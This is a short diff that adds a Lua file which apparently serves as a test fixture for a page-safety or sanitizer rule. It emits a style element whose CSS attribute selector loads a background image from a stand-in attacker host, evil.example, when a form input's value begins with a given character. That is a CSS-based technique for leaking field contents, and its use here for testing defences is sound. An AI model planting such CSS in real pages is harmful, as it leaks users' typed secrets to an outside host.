@@ -1,0 +1,7 @@
+-- SPDX-License-Identifier: GPL-3.0-or-later
+-- Styles that read fields.
+-- wall: ELEMENTS
+-- evil: page has <style>
+return function(vm, h)
+  return h.style{"input[value^=a]{background:url(//evil.example/a)}"}
+end
